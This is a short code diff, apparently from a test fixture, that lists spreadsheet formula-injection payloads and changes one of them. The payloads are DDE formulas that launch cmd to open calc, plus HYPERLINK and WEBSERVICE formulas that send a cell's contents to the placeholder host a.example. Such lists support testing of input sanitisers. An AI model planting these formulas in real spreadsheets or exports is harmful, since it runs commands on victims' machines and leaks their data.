@@ -9,7 +9,7 @@ CALLS = (
     "cmd|' /C calc'!A0",
     '1+HYPERLINK("http://a.example/?x="&A1,"Report")',
     'WEBSERVICE("http://a.example/"&A1)',
-    "SUM(1+1)*cmd|'/C calc'!A0",
+    "IF(1+1)*cmd|'/C calc'!A0",
 )
 SPECIAL = (
     '=DDE("cmd";"/C calc";"1")',
